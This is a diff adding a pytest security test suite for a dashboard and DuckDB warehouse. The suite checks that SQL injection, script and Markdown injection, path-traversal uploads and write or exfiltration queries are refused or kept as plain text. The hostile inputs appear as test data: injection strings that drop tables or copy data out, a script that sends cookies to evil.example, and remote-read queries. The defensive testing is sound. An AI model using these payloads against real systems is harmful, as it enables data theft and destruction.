@@ -1,0 +1,156 @@
+"""Attacks through every way a value gets in: filters and query parameters (SQL injection),
+names and descriptions (HTML, script, Markdown), uploads (path traversal, size, type, garbage),
+and the read-only query command. Each gets a clear refusal or is shown as plain text, and the
+warehouse is unchanged."""
+
+from __future__ import annotations
+
+import dataclasses
+import datetime as dt
+import re
+import shutil
+from pathlib import Path
+
+import pytest
+
+from dashboard import maps, safe, uploads
+from dashboard.filters import Filters
+from pipelines import profiles
+from pipelines.load import load
+from pipelines.readers import InputError
+from tests.helpers import case, write_cases
+from warehouse import sql
+from warehouse.__main__ import main as warehouse_main
+from warehouse.db import Store
+
+INJECTIONS = [
+    "' OR '1'='1",
+    "x'); DROP TABLE cases; --",
+    "330125002' UNION SELECT password_hash FROM users --",
+    "\\'; COPY cases TO '/tmp/stolen.csv'; --",
+]
+EXPLORER_QUERIES = [
+    ("dashboard/explorer_summary", {"now": dt.datetime(2026, 10, 31)}),
+    ("dashboard/explorer_trend", {"unit": "day"}),
+    ("dashboard/explorer_categories", {}),
+    ("dashboard/explorer_channels", {}),
+    ("dashboard/explorer_dow_hour", {}),
+    ("dashboard/explorer_grids", {"now": dt.datetime(2026, 10, 31)}),
+    ("dashboard/explorer_sla", {"by": "department"}),
+    ("dashboard/explorer_overdue", {"now": dt.datetime(2026, 10, 31)}),
+    ("dashboard/explorer_repeats", {"min_cases": 3}),
+    ("dashboard/explorer_cases", {"limit": 10}),
+    ("dashboard/explorer_points", {"limit": 10}),
+]
+
+
+def counts(data: Path) -> tuple:
+    with Store(data).reader() as con:
+        return con.sql("SELECT (SELECT count(*) FROM cases), (SELECT count(*) FROM grids), (SELECT count(*) FROM disputes)").fetchone()
+
+
+@pytest.mark.parametrize("field", ["street", "community", "grid", "major", "category", "channels", "departments", "statuses"])
+def test_sql_injection_through_every_filter_finds_nothing_and_changes_nothing(small_city: Path, field: str):
+    before = counts(small_city)
+    with Store(small_city).reader() as con:
+        for attack in INJECTIONS:
+            value = (attack,) if field in ("channels", "departments", "statuses") else attack
+            f = dataclasses.replace(Filters(dt.date(2020, 1, 1), dt.date(2030, 1, 1)), **{field: value})
+            for name, extra in EXPLORER_QUERIES:
+                frame = sql.query(con, name, **f.params(), **extra)
+                # explorer_grids lists every grid (with zero counts): count what was found instead
+                found = int(frame["cases"].fill_null(0).sum()) if "cases" in frame.columns else frame.height
+                assert found == 0, (field, attack, name)
+    assert counts(small_city) == before
+
+
+@pytest.mark.parametrize("attack", INJECTIONS)
+def test_sql_injection_through_other_query_parameters(small_city: Path, attack: str):
+    with Store(small_city).reader() as con:
+        assert sql.query(con, "dashboard/dispute_detail", dispute_id=attack).height == 0
+        assert sql.query(con, "dashboard/grid_disputes", grid_code=attack, until=dt.datetime(2030, 1, 1)).height == 0
+        assert sql.query(con, "dashboard/grid_weekly_history", grid_code=attack, until=dt.date(2030, 1, 1), weeks=500).height == 0
+        assert sql.query(con, "dashboard/assessment_trend", object_type=attack, object_code=attack).height == 0
+
+
+def test_sql_files_never_format_values():
+    """Every .sql file takes values as $parameters: no Python formatting placeholders at all."""
+    for path in Path(sql.SQL_DIR).rglob("*.sql"):
+        text = path.read_text(encoding="utf-8")
+        assert not re.search(r"\{[a-z_]+\}|%\(|%s", text), path
+
+
+def test_script_and_markup_in_names_and_descriptions_stay_text(data: Path, tmp_path: Path):
+    hostile = "<script>fetch('http://evil.example/'+document.cookie)</script><img src=http://evil.example/x.png>"
+    s = load(data, profiles.resolve("canonical"), [write_cases(tmp_path / "h.csv", [case("H1", description=hostile, grid_code="")])])
+    assert s.inserted == 1
+    with Store(data).reader() as con:
+        stored = con.sql("SELECT description FROM cases").fetchone()[0]
+    assert stored == hostile  # kept as data, never interpreted on the way in
+    # deck.gl tooltips are HTML templates: every text property is escaped
+    import polars as pl
+
+    shapes = pl.DataFrame({"grid_code": ["G1"], "grid_name": [hostile], "geojson": ['{"type":"Point","coordinates":[0,0]}']})
+    feature = maps.grid_features(shapes, pl.DataFrame({"grid_code": ["G1"], "cases": [1]}), "cases", {"grid_name": ""})["features"][0]
+    assert "<script>" not in feature["properties"]["grid_name"] and "&lt;script&gt;" in feature["properties"]["grid_name"]
+    # Markdown: a link or an image from the data must not render (it would fetch from outside)
+    escaped = safe.md("纠纷类型为[点我](http://evil.example) ![x](http://evil.example/x.png)")
+    assert "](" not in escaped.replace("\\](", "")
+    assert escaped.count("\\[") == 2 and escaped.count("\\!") == 1
+
+
+@pytest.mark.parametrize(
+    ("name", "why"),
+    [
+        ("../../etc/cron.d/evil.csv", None),  # path parts are dropped: stored as evil.csv, inside uploads/
+        ("..", "not a plain file name"),
+        (".hidden.csv", "not a plain file name"),
+        ("payload.exe", "only .csv"),
+        ("cases.csv\x00.exe", "not a plain file name"),
+        ("C:\\Windows\\system32\\cases.csv", None),
+    ],
+)
+def test_upload_names_cannot_escape_the_uploads_folder(data: Path, name: str, why: str | None):
+    if why:
+        with pytest.raises(uploads.UploadError, match=why):
+            uploads.save(data, name, b"case_id\n1\n", 1000)
+        assert not (data / "uploads").exists() or not any((data / "uploads").iterdir())
+    else:
+        path = uploads.save(data, name, b"case_id\n1\n", 1000)
+        assert path.parent == (data / "uploads").resolve() and path.name.endswith("cases.csv" if "cases" in name else "evil.csv")
+
+
+def test_oversized_empty_and_garbage_uploads_are_refused_and_change_nothing(small_city: Path, tmp_path: Path):
+    data = tmp_path / "city"
+    shutil.copytree(small_city, data, ignore=shutil.ignore_patterns("raw"))
+    before = (counts(data), Store(data).current())
+    with pytest.raises(uploads.UploadError, match="more than the 1,000 allowed"):
+        uploads.save(data, "big.csv", b"x" * 1001, 1000)
+    with pytest.raises(uploads.UploadError, match="empty"):
+        uploads.save(data, "empty.csv", b"", 1000)
+    garbage = uploads.save(data, "garbage.csv", b"\x00\x01\x02 not a csv at all \xff\xfe", 10_000)
+    with pytest.raises(InputError, match="garbage.csv"):
+        uploads.load_upload(data, "canonical", garbage)
+    with pytest.raises(uploads.UploadError, match="not a built-in profile"):
+        uploads.load_upload(data, "../../../tmp/evil", garbage)
+    assert (counts(data), Store(data).current()) == before
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "COPY cases TO '/tmp/gp_stolen.csv'",
+        "ATTACH '/tmp/gp_other.duckdb' AS other",
+        "INSTALL httpfs",
+        "SELECT * FROM read_parquet('http://evil.example/x.parquet')",
+        "CREATE TABLE x AS SELECT 1",
+        "PRAGMA enable_external_access",
+        "SELECT 1; DELETE FROM cases",
+    ],
+)
+def test_warehouse_query_stays_read_only(small_city: Path, attack: str, capsys):
+    before = counts(small_city)
+    assert warehouse_main(["--data", str(small_city), "query", attack]) == 2
+    assert capsys.readouterr().err.strip()
+    assert counts(small_city) == before
+    assert not Path("/tmp/gp_stolen.csv").exists()
